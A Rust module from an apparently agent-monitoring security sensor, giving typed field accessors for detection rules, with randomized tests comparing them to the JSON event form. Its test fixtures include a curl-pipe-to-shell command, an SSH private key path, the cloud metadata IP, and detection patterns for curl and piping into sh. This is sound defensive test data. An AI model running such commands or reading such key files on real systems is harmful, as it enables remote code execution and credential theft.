//! The fields a rule reads, read from the typed [`Event`] (the daemon's
//! path), without writing the event's JSON form first.
//!
//! Each known JSON path (`process.exe`, `run.depth`, `network.dst_ip`, …)
//! has an accessor that returns exactly what the event's JSON form holds at
//! that path: `None` where the member is absent (a `None` serde skips, or a
//! missing parent), `Some(Value::Null)` where it is written as `null`, and
//! the leaf as serde_json writes it otherwise (numbers, IP addresses, enums
//! and times in their JSON forms, argv as an array). Paths this does not
//! know (objects, maps, the kinds' rarer parts) have no accessor: a rule set
//! that reads one evaluates those kinds on the JSON form instead
//! ([`super::RuleSet::json_form`]), so any path stays correct.
//!
//! The unit tests check every accessor against the JSON form of many
//! generated events, and the daemon's path against `sensor rules test`'s.

use std::time::SystemTime;

use serde::Serialize;
use serde_json::Value;

use super::correlation::Fields;
use crate::event::{Event, Process, RunRef, rfc3339};

/// Reads one path of an event: what its JSON form has there (see the module).
pub type Accessor = fn(&Event) -> Option<Value>;

/// A leaf as serde_json writes it.
fn leaf<T: Serialize + ?Sized>(x: &T) -> Option<Value> {
    serde_json::to_value(x).ok()
}

/// An `Option` member serde skips when `None` (absent).
fn skipped<T: Serialize>(x: Option<&T>) -> Option<Value> {
    x.and_then(leaf)
}

/// An `Option` member always written (`null` when `None`).
fn always<T: Serialize>(x: Option<&T>) -> Option<Value> {
    match x {
        Some(x) => leaf(x),
        None => Some(Value::Null),
    }
}

fn run(e: &Event) -> Option<&RunRef> {
    e.run.as_ref()
}

fn process(e: &Event) -> Option<&Process> {
    e.process.as_ref()
}

/// The accessor of a JSON path, when this knows it.
#[must_use]
#[allow(
    clippy::too_many_lines,
    reason = "one line per path: a table, read as one"
)]
pub fn accessor(path: &str) -> Option<Accessor> {
    let a: Accessor = match path {
        "schema" => |e| leaf(e.schema),
        "seq" => |e| leaf(&e.seq),
        "time" => |e| leaf(&e.time),
        "kind" => |e| leaf(&e.kind),
        "delivery" => |e| skipped(e.delivery.as_ref()),
        "host.name" => |e| leaf(&e.host.name),
        "host.boot_id" => |e| leaf(&e.host.boot_id),
        // `run` is written `null` outside a run: its members are absent.
        "run.id" => |e| leaf(&run(e)?.id),
        "run.agent" => |e| leaf(&run(e)?.agent),
        "run.principal" => |e| leaf(&run(e)?.principal),
        "run.principal_claimed" => |e| skipped(run(e)?.principal_claimed.as_ref()),
        "run.parent_id" => |e| always(run(e)?.parent_id.as_ref()),
        "run.root_id" => |e| leaf(&run(e)?.root_id),
        "run.depth" => |e| leaf(&run(e)?.depth),
        "run.attribution" => |e| leaf(&run(e)?.attribution),
        "run.tool_call.id" => |e| leaf(&run(e)?.tool_call.as_ref()?.id),
        "run.tool_call.name" => |e| leaf(&run(e)?.tool_call.as_ref()?.name),
        // run.start and run.end's details, flattened into `run`.
        "run.uid" => |e| leaf(&run(e)?.details.as_ref()?.uid),
        "run.policy" => |e| always(run(e)?.details.as_ref()?.policy.as_ref()),
        "run.started_by" => |e| leaf(&run(e)?.details.as_ref()?.started_by),
        "run.start" => |e| leaf(&run(e)?.details.as_ref()?.start),
        "run.expires" => |e| always(run(e)?.details.as_ref()?.expires.as_ref()),
        "run.end" => |e| skipped(run(e)?.details.as_ref()?.end.as_ref()),
        "run.end_reason" => |e| skipped(run(e)?.details.as_ref()?.end_reason.as_ref()),
        "process.key" => |e| leaf(&process(e)?.key),
        "process.pid" => |e| leaf(&process(e)?.pid),
        "process.ns_pid" => |e| skipped(process(e)?.ns_pid.as_ref()),
        "process.tid" => |e| leaf(&process(e)?.tid),
        "process.ppid" => |e| leaf(&process(e)?.ppid),
        "process.parent_key" => |e| leaf(&process(e)?.parent_key),
        "process.uid" => |e| leaf(&process(e)?.uid),
        "process.gid" => |e| leaf(&process(e)?.gid),
        "process.comm" => |e| leaf(&process(e)?.comm),
        "process.exe" => |e| skipped(process(e)?.exe.as_ref()),
        "process.exe_b64" => |e| skipped(process(e)?.exe_b64.as_ref()),
        "process.exe_truncated" => |e| skipped(process(e)?.exe_truncated.as_ref()),
        "process.argv" => |e| skipped(process(e)?.argv.as_ref()),
        "process.argv_b64" => |e| skipped(process(e)?.argv_b64.as_ref()),
        "process.argc" => |e| skipped(process(e)?.argc.as_ref()),
        "process.argv_truncated" => |e| skipped(process(e)?.argv_truncated.as_ref()),
        "process.argv_len" => |e| skipped(process(e)?.argv_len.as_ref()),
        "process.cwd" => |e| skipped(process(e)?.cwd.as_ref()),
        "process.exit_code" => |e| always(process(e)?.exit_code.as_ref()),
        "process.exit_signal" => |e| always(process(e)?.exit_signal.as_ref()),
        "process.core_dumped" => |e| skipped(process(e)?.core_dumped.as_ref()),
        "process.parent_exe" => |e| skipped(process(e)?.parent_exe.as_ref()),
        "exec.filename" => |e| leaf(&e.exec.as_ref()?.filename),
        "exec.result" => |e| leaf(&e.exec.as_ref()?.result),
        "exec.errno" => |e| skipped(e.exec.as_ref()?.errno.as_ref()),
        "exec.error" => |e| skipped(e.exec.as_ref()?.error.as_ref()),
        "exec.old_tid" => |e| leaf(&e.exec.as_ref()?.old_tid),
        "exec.inode" => |e| skipped(e.exec.as_ref()?.inode.as_ref()),
        "exec.dev" => |e| skipped(e.exec.as_ref()?.dev.as_ref()),
        "exec.modified_in_run" => |e| skipped(e.exec.as_ref()?.modified_in_run.as_ref()),
        "network.transport" => |e| leaf(e.network.as_ref()?.transport),
        "network.family" => |e| leaf(e.network.as_ref()?.family),
        "network.dst_ip" => |e| skipped(e.network.as_ref()?.dst_ip.as_ref()),
        "network.dst_port" => |e| skipped(e.network.as_ref()?.dst_port.as_ref()),
        "network.path" => |e| skipped(e.network.as_ref()?.path.as_ref()),
        "network.abstract" => |e| skipped(e.network.as_ref()?.abstract_name.as_ref()),
        "network.peer_path" => |e| skipped(e.network.as_ref()?.peer_path.as_ref()),
        "network.local_ip" => |e| skipped(e.network.as_ref()?.local_ip.as_ref()),
        "network.local_port" => |e| skipped(e.network.as_ref()?.local_port.as_ref()),
        "network.src_ip" => |e| skipped(e.network.as_ref()?.src_ip.as_ref()),
        "network.src_port" => |e| skipped(e.network.as_ref()?.src_port.as_ref()),
        "network.sends" => |e| skipped(e.network.as_ref()?.sends.as_ref()),
        "network.result" => |e| leaf(&e.network.as_ref()?.result),
        "network.errno" => |e| always(e.network.as_ref()?.errno.as_ref()),
        "network.error" => |e| always(e.network.as_ref()?.error.as_ref()),
        "network.via" => |e| skipped(e.network.as_ref()?.via.as_ref()),
        "policy.name" => |e| leaf(&e.policy.as_ref()?.name),
        "policy.verdict" => |e| leaf(&e.policy.as_ref()?.verdict),
        "policy.rule" => |e| leaf(&e.policy.as_ref()?.rule),
        "policy.enforced" => |e| leaf(&e.policy.as_ref()?.enforced),
        "policy.version" => |e| leaf(&e.policy.as_ref()?.version),
        "tamper.method" => |e| leaf(e.tamper.as_ref()?.method),
        "tamper.what" => |e| leaf(&e.tamper.as_ref()?.what),
        "tamper.object" => |e| leaf(&e.tamper.as_ref()?.object),
        "tamper.detected" => |e| leaf(e.tamper.as_ref()?.detected),
        "tamper.target.pid" => |e| leaf(&e.tamper.as_ref()?.target.as_ref()?.pid),
        "tamper.target.key" => |e| leaf(&e.tamper.as_ref()?.target.as_ref()?.key),
        "tamper.target.exe" => |e| skipped(e.tamper.as_ref()?.target.as_ref()?.exe.as_ref()),
        "tamper.file.kind" => |e| leaf(e.tamper.as_ref()?.file.as_ref()?.kind),
        "tamper.file.path" => |e| skipped(e.tamper.as_ref()?.file.as_ref()?.path.as_ref()),
        "tamper.file.dev" => |e| skipped(e.tamper.as_ref()?.file.as_ref()?.dev.as_ref()),
        "tamper.file.inode" => |e| skipped(e.tamper.as_ref()?.file.as_ref()?.inode.as_ref()),
        "tamper.file.to" => |e| skipped(e.tamper.as_ref()?.file.as_ref()?.to.as_ref()),
        "tamper.file.dir" => |e| skipped(e.tamper.as_ref()?.file.as_ref()?.dir.as_ref()),
        "tamper.signal" => |e| skipped(e.tamper.as_ref()?.signal.as_ref()),
        "tamper.killed" => |e| skipped(e.tamper.as_ref()?.killed.as_ref()),
        "tamper.repaired" => |e| skipped(e.tamper.as_ref()?.repaired.as_ref()),
        "tamper.suppressed" => |e| skipped(e.tamper.as_ref()?.suppressed.as_ref()),
        "tamper.detail" => |e| skipped(e.tamper.as_ref()?.detail.as_ref()),
        "degraded.lost_events" => |e| leaf(&e.degraded.as_ref()?.lost_events),
        "degraded.denials_suppressed" => |e| leaf(&e.degraded.as_ref()?.denials_suppressed),
        _ => return None,
    };
    Some(a)
}

/// The time the JSON form's `time` reads back as (`time` is written with
/// nanoseconds, clamped to what RFC 3339 holds): the correlations' windows
/// and the first-seen times, as the JSON path computes them.
#[must_use]
pub fn time_of(event: &Event) -> SystemTime {
    humantime::parse_rfc3339(&rfc3339(event.time.0).to_string())
        .unwrap_or_else(|_| SystemTime::now())
}

/// A typed event read as the correlations and first-seen rules read its
/// JSON form ([`Fields`]).
pub struct Typed<'e>(pub &'e Event);

impl Fields for Typed<'_> {
    fn text(&self, path: &str) -> String {
        match accessor(path) {
            Some(read) => super::correlation::text_of(read(self.0).as_ref()),
            // Not known here (the rule set checks that it never is): read
            // from the whole JSON form.
            None => serde_json::to_value(self.0)
                .map(|v| v.text(path))
                .unwrap_or_default(),
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::too_many_lines)]
mod tests {
    use std::{
        collections::BTreeMap,
        net::IpAddr,
        path::Path,
        sync::Arc,
        time::{Duration, UNIX_EPOCH},
    };

    use serde_json::Value;

    use super::*;
    use crate::{
        detect::{Correlator, RuleSet},
        event::{
            Attributed, CallRef, Decision, Exec, ExecResult, Kind, NetResult, Network, RunDetails,
            StartedBy, Tamper, TamperFile, TamperTarget, Timestamp, Verdict,
        },
        identity::Host,
    };

    /// Every path with an accessor (the tests check each against the JSON
    /// form, present and absent).
    const PATHS: &[&str] = &[
        "schema",
        "seq",
        "time",
        "kind",
        "delivery",
        "host.name",
        "host.boot_id",
        "run.id",
        "run.agent",
        "run.principal",
        "run.principal_claimed",
        "run.parent_id",
        "run.root_id",
        "run.depth",
        "run.attribution",
        "run.tool_call.id",
        "run.tool_call.name",
        "run.uid",
        "run.policy",
        "run.started_by",
        "run.start",
        "run.expires",
        "run.end",
        "run.end_reason",
        "process.key",
        "process.pid",
        "process.ns_pid",
        "process.tid",
        "process.ppid",
        "process.parent_key",
        "process.uid",
        "process.gid",
        "process.comm",
        "process.exe",
        "process.exe_b64",
        "process.exe_truncated",
        "process.argv",
        "process.argv_b64",
        "process.argc",
        "process.argv_truncated",
        "process.argv_len",
        "process.cwd",
        "process.exit_code",
        "process.exit_signal",
        "process.core_dumped",
        "process.parent_exe",
        "exec.filename",
        "exec.result",
        "exec.errno",
        "exec.error",
        "exec.old_tid",
        "exec.inode",
        "exec.dev",
        "exec.modified_in_run",
        "network.transport",
        "network.family",
        "network.dst_ip",
        "network.dst_port",
        "network.path",
        "network.abstract",
        "network.peer_path",
        "network.local_ip",
        "network.local_port",
        "network.src_ip",
        "network.src_port",
        "network.sends",
        "network.result",
        "network.errno",
        "network.error",
        "network.via",
        "policy.name",
        "policy.verdict",
        "policy.rule",
        "policy.enforced",
        "policy.version",
        "tamper.method",
        "tamper.what",
        "tamper.object",
        "tamper.detected",
        "tamper.target.pid",
        "tamper.target.key",
        "tamper.target.exe",
        "tamper.file.kind",
        "tamper.file.path",
        "tamper.file.dev",
        "tamper.file.inode",
        "tamper.file.to",
        "tamper.file.dir",
        "tamper.signal",
        "tamper.killed",
        "tamper.repaired",
        "tamper.suppressed",
        "tamper.detail",
        "degraded.lost_events",
        "degraded.denials_suppressed",
    ];

    /// A small deterministic generator (xorshift).
    struct Gen(u64);

    impl Gen {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            self.0
        }
        fn below(&mut self, n: u64) -> u64 {
            self.next() % n
        }
        fn coin(&mut self) -> bool {
            self.below(2) == 0
        }
        fn maybe<T>(&mut self, f: impl FnOnce(&mut Self) -> T) -> Option<T> {
            if self.coin() { Some(f(self)) } else { None }
        }
        fn pick<T: Copy>(&mut self, from: &[T]) -> T {
            from[usize::try_from(self.below(from.len() as u64)).unwrap()]
        }
        fn text(&mut self) -> String {
            self.pick(&[
                "",
                "a",
                "agent-1",
                "/usr/bin/curl",
                "/tmp/x",
                "/dev/shm/y",
                "x.y",
                "null",
                "1",
                "-1",
                "true",
                " ",
                "sh -c 'curl -s http://x/i | sh'",
                "ünï\u{1f}code",
                "\"quoted\"",
                "169.254.169.254",
                "deny",
                "/home/u/.ssh/id_rsa",
                "kubectl",
                "ssh-keygen",
                "launch",
                "@abstract\\x00",
                "sensor",
            ])
            .to_owned()
        }
        fn int(&mut self) -> i32 {
            self.pick(&[0, 1, -1, 2, 9, 13, 22, 443, i32::MIN, i32::MAX])
        }
        fn uint(&mut self) -> u32 {
            self.pick(&[0, 1, 2, 3, 4, 9, 22, 80, 443, 65535, u32::MAX])
        }
        fn big(&mut self) -> u64 {
            self.pick(&[0, 1, 7, 1 << 40, u64::MAX])
        }
        fn ip(&mut self) -> IpAddr {
            self.pick(&[
                "169.254.169.254",
                "10.0.0.7",
                "127.0.0.1",
                "0.0.0.0",
                "fd00:ec2::254",
                "::1",
                "::ffff:10.0.0.1",
                "2001:db8::1",
            ])
            .parse()
            .unwrap()
        }
        fn time(&mut self) -> Timestamp {
            let t = match self.below(5) {
                0 => UNIX_EPOCH.checked_sub(Duration::from_secs(5)).unwrap(),
                1 => UNIX_EPOCH + Duration::from_secs(300_000_000_000),
                2 => UNIX_EPOCH + Duration::new(1_764_900_000, 1),
                _ => UNIX_EPOCH + Duration::new(1_764_900_000 + self.below(900), 123_456_789),
            };
            Timestamp(t)
        }
        fn stat(&mut self) -> &'static str {
            self.pick(&[
                "tcp", "udp", "unix", "ipv4", "ipv6", "signal", "kernel", "", "pins",
            ])
        }
    }

    fn run(g: &mut Gen) -> RunRef {
        RunRef {
            id: g.pick(&["r1", "r2", "r3"]).to_owned(),
            agent: g.text(),
            principal: g.text(),
            principal_claimed: g.maybe(Gen::text),
            parent_id: g.maybe(Gen::text),
            root_id: g.text(),
            depth: g.uint(),
            attribution: g.pick(&[
                Attributed::Launch,
                Attributed::Inherited,
                Attributed::Unknown,
            ]),
            tool_call: g.maybe(|g| CallRef {
                id: g.text(),
                name: g.text(),
            }),
            details: g.maybe(|g| RunDetails {
                uid: g.uint(),
                policy: g.maybe(Gen::text),
                labels: BTreeMap::from([("team.x".to_owned(), g.text())]),
                started_by: g.pick(&[StartedBy::Launch, StartedBy::Matcher, StartedBy::Unknown]),
                start: g.time(),
                expires: g.maybe(Gen::time),
                end: g.maybe(Gen::time),
                end_reason: g.maybe(Gen::text),
            }),
        }
    }

    fn event(g: &mut Gen, kind: Kind) -> Event {
        let host = Arc::new(Host {
            name: g.text(),
            boot_id: g.text(),
        });
        let mut e = Event::new(kind, g.big(), g.time(), host);
        e.delivery = g.maybe(|_| "recovered");
        e.run = g.maybe(run);
        e.process = g.maybe(|g| Process {
            key: g.text(),
            pid: g.uint(),
            ns_pid: g.maybe(Gen::uint),
            tid: g.uint(),
            ppid: g.uint(),
            parent_key: g.text(),
            uid: g.uint(),
            gid: g.uint(),
            comm: g.text(),
            exe: g.maybe(Gen::text),
            exe_b64: g.maybe(Gen::text),
            exe_truncated: g.maybe(Gen::coin),
            argv: g.maybe(|g| {
                let n = g.pick(&[0, 1, 3, 300]);
                (0..n).map(|_| g.text()).collect()
            }),
            argv_b64: g.maybe(Gen::text),
            argc: g.maybe(Gen::uint),
            argv_truncated: g.maybe(Gen::coin),
            argv_len: g.maybe(Gen::uint),
            cwd: g.maybe(Gen::text),
            exit_code: g.maybe(Gen::int),
            exit_signal: g.maybe(Gen::int),
            core_dumped: g.maybe(Gen::coin),
            parent_exe: g.maybe(Gen::text),
        });
        e.exec = g.maybe(|g| Exec {
            filename: g.text(),
            result: g.pick(&[ExecResult::Ok, ExecResult::Error]),
            errno: g.maybe(Gen::int),
            error: g.maybe(Gen::text),
            old_tid: g.uint(),
            inode: g.maybe(Gen::big),
            dev: g.maybe(Gen::text),
            modified_in_run: g.maybe(Gen::coin),
            dev_raw: g.maybe(Gen::uint),
            mnt_id: g.maybe(Gen::uint),
        });
        e.network = g.maybe(|g| Network {
            transport: g.stat(),
            family: g.stat(),
            dst_ip: g.maybe(Gen::ip),
            dst_port: g.maybe(|g| g.pick(&[0, 22, 80, 443, 65535])),
            path: g.maybe(Gen::text),
            abstract_name: g.maybe(Gen::coin),
            peer_path: g.maybe(Gen::text),
            local_ip: g.maybe(Gen::ip),
            local_port: g.maybe(|g| g.pick(&[0, 8080])),
            src_ip: g.maybe(Gen::ip),
            src_port: g.maybe(|g| g.pick(&[1, 65535])),
            sends: g.maybe(Gen::uint),
            result: g.pick(&[
                NetResult::Ok,
                NetResult::Refused,
                NetResult::InProgress,
                NetResult::Unknown,
            ]),
            errno: g.maybe(Gen::int),
            error: g.maybe(Gen::text),
            via: g.maybe(|_| "sendmsg"),
        });
        e.policy = g.maybe(|g| Verdict {
            name: g.text(),
            verdict: g.pick(&[Decision::Allow, Decision::Deny]),
            rule: g.text(),
            enforced: g.coin(),
            version: g.big(),
        });
        e.tamper = g.maybe(|g| {
            Box::new(Tamper {
                method: g.stat(),
                what: g.text(),
                object: g.text(),
                detected: g.stat(),
                target: g.maybe(|g| TamperTarget {
                    pid: g.uint(),
                    key: g.text(),
                    exe: g.maybe(Gen::text),
                    run: g.maybe(run),
                }),
                file: g.maybe(|g| TamperFile {
                    kind: g.stat(),
                    path: g.maybe(Gen::text),
                    dev: g.maybe(Gen::text),
                    inode: g.maybe(Gen::big),
                    to: g.maybe(Gen::text),
                    dir: g.maybe(Gen::coin),
                }),
                signal: g.maybe(Gen::uint),
                killed: g.maybe(Gen::coin),
                repaired: g.maybe(Gen::coin),
                suppressed: g.maybe(Gen::big),
                detail: g.maybe(Gen::text),
            })
        });
        e.degraded = g.maybe(|g| {
            Box::new(crate::event::Degraded {
                lost_events: g.big(),
                denials_suppressed: g.big(),
            })
        });
        e
    }

    const KINDS: &[Kind] = &[
        Kind::ProcessExec,
        Kind::ProcessSpawn,
        Kind::ProcessExit,
        Kind::NetworkConnect,
        Kind::NetworkListen,
        Kind::NetworkAccept,
        Kind::PolicyViolation,
        Kind::ProcessTamper,
        Kind::SensorTamper,
        Kind::RunStart,
        Kind::RunEnd,
        Kind::RunDegraded,
    ];

    fn events(n: usize) -> Vec<Event> {
        let mut g = Gen(0x9e37_79b9_7f4a_7c15);
        (0..n)
            .map(|_| {
                let kind = g.pick(KINDS);
                event(&mut g, kind)
            })
            .collect()
    }

    /// The member at a dotted path of the JSON form (its keys have no dots
    /// on these paths), as a rule or a correlation finds it.
    fn walk<'v>(v: &'v Value, path: &str) -> Option<&'v Value> {
        path.split('.').try_fold(v, |v, part| v.get(part))
    }

    /// Every leaf path of a JSON value.
    fn leaves(v: &Value, at: &str, out: &mut Vec<String>) {
        if let Value::Object(map) = v {
            for (k, v) in map {
                let path = if at.is_empty() {
                    k.clone()
                } else {
                    format!("{at}.{k}")
                };
                leaves(v, &path, out);
            }
        } else {
            out.push(at.to_owned());
        }
    }

    /// Each accessor returns what the JSON form has at its path (absent,
    /// null, or the same value), over many generated events; and every
    /// path is seen present and absent.
    #[test]
    fn every_accessor_reads_what_the_json_form_has() {
        let mut present = std::collections::BTreeSet::new();
        let mut absent = std::collections::BTreeSet::new();
        for e in events(3000) {
            let v = serde_json::to_value(&e).unwrap();
            for &path in PATHS {
                let read = accessor(path).unwrap_or_else(|| panic!("no accessor for {path}"));
                let got = read(&e);
                assert_eq!(got.as_ref(), walk(&v, path), "{path} of {v}");
                assert_eq!(Typed(&e).text(path), v.text(path), "{path} of {v}");
                if got.is_some() {
                    present.insert(path);
                } else {
                    absent.insert(path);
                }
            }
            // A path without an accessor reads the JSON form.
            for path in [
                "run.labels.team.x",
                "tamper.target.run.agent",
                "run",
                "nope",
            ] {
                assert_eq!(Typed(&e).text(path), v.text(path), "{path} of {v}");
            }
            // No leaf the JSON form has on a known parent is missed.
            let mut all = Vec::new();
            leaves(&v, "", &mut all);
            for path in all {
                if let Some(read) = accessor(&path) {
                    assert_eq!(read(&e).as_ref(), walk(&v, &path), "{path}");
                }
            }
            assert_eq!(
                time_of(&e),
                v["time"]
                    .as_str()
                    .and_then(|t| humantime::parse_rfc3339(t).ok())
                    .unwrap()
            );
        }
        for &path in PATHS {
            assert!(present.contains(path), "{path} never present");
        }
        for path in [
            "process.exe",
            "run.agent",
            "network.dst_ip",
            "tamper.target.exe",
            "run.uid",
        ] {
            assert!(absent.contains(path), "{path} never absent");
        }
        // Objects, maps and unknown paths have none (the JSON form is used).
        for path in [
            "run",
            "process",
            "run.labels",
            "run.labels.team.x",
            "tamper.target.run.id",
            "nope",
        ] {
            assert!(accessor(path).is_none(), "{path}");
        }
    }

    /// Rules over every readable field (nulls, absent, numbers, IPs, enums,
    /// argv, nested), first-seen rules and correlations: the daemon's typed
    /// path fires exactly what the whole JSON form fires, event by event.
    #[test]
    fn the_typed_path_fires_as_the_whole_json_form() {
        let dir = tempfile::tempdir().unwrap();
        let rule = |name: &str, category: &str, detection: &str, extra: &str| {
            let category = if category.is_empty() {
                String::new()
            } else {
                format!("\n  category: {category}")
            };
            std::fs::write(
                dir.path().join(format!("{name}.yml")),
                format!(
                    "title: {name}\nid: {name}\nname: {name}\nlogsource:\n  product: agent-sensor{category}\n\
                     detection:\n{detection}\n  condition: s\n{extra}"
                ),
            )
            .unwrap();
        };
        rule(
            "argv",
            "process_creation",
            "  s:\n    process.argv|contains: curl\n    process.exit_code: null\n    process.cwd|exists: false",
            "",
        );
        rule(
            "argv_re",
            "process_exec",
            "  s:\n    process.argv|re: '\\| *sh'",
            "",
        );
        rule(
            "depth",
            "",
            "  s:\n    run.depth|gt: 2\n    run.parent_id: null",
            "",
        );
        rule("run_agent", "", "  s:\n    run.agent|startswith: agent", "");
        rule(
            "net",
            "network_connection",
            "  s:\n    network.dst_ip|cidr: 10.0.0.0/8\n    network.dst_port|lt: 1000\n    network.errno: null",
            "",
        );
        rule("net6", "", "  s:\n    network.dst_ip: 'fd00:ec2::254'", "");
        rule(
            "listen",
            "network_listen",
            "  s:\n    network.local_port: 8080\n    network.abstract: true",
            "",
        );
        rule(
            "deny",
            "",
            "  s:\n    policy.verdict: deny\n    policy.enforced: true",
            "",
        );
        rule(
            "version",
            "",
            "  s:\n    policy.version|gte: 1099511627776",
            "",
        );
        rule(
            "tamper",
            "",
            "  s:\n    tamper.target.exe|endswith: sensor\n    tamper.signal: 9",
            "",
        );
        rule(
            "tamper_file",
            "",
            "  s:\n    tamper.file.dir: false\n    tamper.file.inode: 7",
            "",
        );
        rule(
            "run_start",
            "run_start",
            "  s:\n    run.policy: null\n    run.started_by: launch\n    run.uid: 0",
            "",
        );
        rule(
            "times",
            "",
            "  s:\n    time|startswith: '2025'\n    seq: 7",
            "",
        );
        rule(
            "exit",
            "process_exit",
            "  s:\n    process.exit_code|lt: 0\n    process.core_dumped: true",
            "",
        );
        rule(
            "ret",
            "",
            "  s:\n    exec.result: error\n    exec.modified_in_run: false\n    exec.inode|gt: 1",
            "",
        );
        rule(
            "host",
            "",
            "  s:\n    host.name: sensor\n    kind: sensor.tamper",
            "",
        );
        rule(
            "null_str",
            "",
            "  s:\n    process.exe: 'null'\n    network.error|exists: true",
            "",
        );
        rule("ref", "", "  s:\n    run.agent|fieldref: run.principal", "");
        rule(
            "first",
            "",
            "  s:\n    process.exe|exists: true",
            "first_seen:\n  fields: [process.exe, run.agent, process.argv]\n",
        );
        rule(
            "first_ip",
            "network_connection",
            "  s:\n    run.id|exists: true",
            "first_seen:\n  fields: [network.dst_ip, network.dst_port]\n",
        );
        // Conditions around a `run.agent|exists: true` selection: only
        // `needs` (the run required at the top level) may skip the events
        // outside runs; the comparison below shows each skip is exact.
        for (name, condition) in [
            ("needs", "r and (x or y)"),
            ("or_run", "r or x"),
            ("not_run", "not r and x"),
            ("or_after", "r and x or y"),
        ] {
            std::fs::write(
                dir.path().join(format!("{name}.yml")),
                format!(
                    "title: {name}\nid: {name}\nlogsource:\n  product: agent-sensor\n\
                     detection:\n  r:\n    run.agent|exists: true\n  x:\n    process.exe|exists: true\n\
                     \x20 y:\n    network.dst_port|lt: 1000\n  condition: {condition}\n"
                ),
            )
            .unwrap();
        }
        std::fs::write(
            dir.path().join("zc1.yml"),
            "title: c1\nid: c1\ncorrelation:\n  type: event_count\n  rules: [deny]\n  group-by: [run.id, process.argv]\n  timespan: 5m\n  condition:\n    gte: 3\nlevel: high\n",
        )
        .unwrap();
        std::fs::write(
            dir.path().join("zc2.yml"),
            "title: c2\nid: c2\ncorrelation:\n  type: value_count\n  rules: [depth, run_agent]\n  group-by: [run.agent]\n  timespan: 1m\n  condition:\n    gte: 3\n    field: network.dst_port\ngenerate: true\nlevel: high\n",
        )
        .unwrap();
        let root = Path::new(env!("CARGO_MANIFEST_DIR"));
        let set = RuleSet::load(&[root.join("../rules/agent"), dir.path().to_path_buf()]).unwrap();
        for &kind in KINDS {
            assert!(set.reads_typed(kind), "{kind:?} is read typed");
        }
        let (mut typed, mut whole) = (Correlator::default(), Correlator::default());
        let mut fired = BTreeMap::<String, usize>::new();
        for e in events(20_000) {
            let v = serde_json::to_value(&e).unwrap();
            let ids = |hits: Vec<&crate::detect::RuleInfo>| {
                hits.iter().map(|r| r.id.clone()).collect::<Vec<_>>()
            };
            let want = ids(set.evaluate(&mut whole, e.kind, &v));
            let got = ids(set.evaluate_event(&mut typed, &e));
            assert_eq!(got, want, "{v}");
            for id in want {
                *fired.entry(id).or_default() += 1;
            }
        }
        // Each extra rule and correlation fired somewhere (the comparison
        // covered its fields), and none fires on everything (`deny` is
        // only counted, by `c1`).
        assert!(!fired.contains_key("deny"));
        for id in [
            "argv",
            "argv_re",
            "depth",
            "run_agent",
            "net",
            "net6",
            "listen",
            "version",
            "tamper",
            "tamper_file",
            "run_start",
            "exit",
            "ret",
            "host",
            "null_str",
            "ref",
            "first",
            "first_ip",
            "c1",
            "c2",
            "needs",
            "or_run",
            "not_run",
            "or_after",
        ] {
            assert!(
                fired.get(id).is_some_and(|&n| n > 0 && n < 20_000),
                "{id}: {fired:?}"
            );
        }
    }

    /// A rule naming a path without an accessor (a map member, an object,
    /// a nested run): its kinds are evaluated on the JSON form, and fire
    /// as the whole JSON form does.
    #[test]
    fn a_path_without_an_accessor_falls_back_to_the_json_form() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("labels.yml"),
            "title: labels\nid: labels\nlogsource: {product: agent-sensor, category: run_start}\n\
             detection:\n  s:\n    run.labels.team.x: agent-1\n  condition: s\n",
        )
        .unwrap();
        std::fs::write(
            dir.path().join("target_run.yml"),
            "title: target run\nid: target_run\nlogsource: {product: agent-sensor, category: sensor_tamper}\n\
             detection:\n  s:\n    tamper.target.run.agent|exists: true\n  condition: s\n",
        )
        .unwrap();
        std::fs::write(
            dir.path().join("exec.yml"),
            "title: exec\nid: exec\nlogsource: {product: agent-sensor, category: process_exec}\n\
             detection:\n  s:\n    process.exe|endswith: curl\n  condition: s\n",
        )
        .unwrap();
        let set = RuleSet::load(&[dir.path().to_path_buf()]).unwrap();
        assert!(!set.reads_typed(Kind::RunStart));
        assert!(!set.reads_typed(Kind::SensorTamper));
        assert!(set.reads_typed(Kind::ProcessExec));
        let (mut typed, mut whole) = (Correlator::default(), Correlator::default());
        let mut fired = BTreeMap::<String, usize>::new();
        for e in events(5000) {
            let v = serde_json::to_value(&e).unwrap();
            let ids = |hits: Vec<&crate::detect::RuleInfo>| {
                hits.iter().map(|r| r.id.clone()).collect::<Vec<_>>()
            };
            let want = ids(set.evaluate(&mut whole, e.kind, &v));
            assert_eq!(ids(set.evaluate_event(&mut typed, &e)), want, "{v}");
            for id in want {
                *fired.entry(id).or_default() += 1;
            }
        }
        for id in ["labels", "target_run", "exec"] {
            assert!(fired.get(id).is_some_and(|&n| n > 0), "{id}: {fired:?}");
        }
    }
}
